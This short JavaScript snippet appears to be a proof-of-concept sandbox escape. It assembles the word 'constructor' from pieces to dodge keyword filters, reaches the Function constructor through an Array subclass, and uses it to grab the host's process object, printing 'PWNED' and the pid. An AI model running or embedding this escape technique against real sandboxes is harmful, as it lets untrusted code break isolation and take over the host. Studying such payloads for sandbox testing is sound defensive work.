const w = ['con', 'structor'].join('');
class L extends Array { constructor(...a) { super(...a); this.seen = a; } }
const l = L.from([(x) => x]);
const m = l.map((f) => f[w]);
console.log('PWNED', m[0]('return process')().pid);
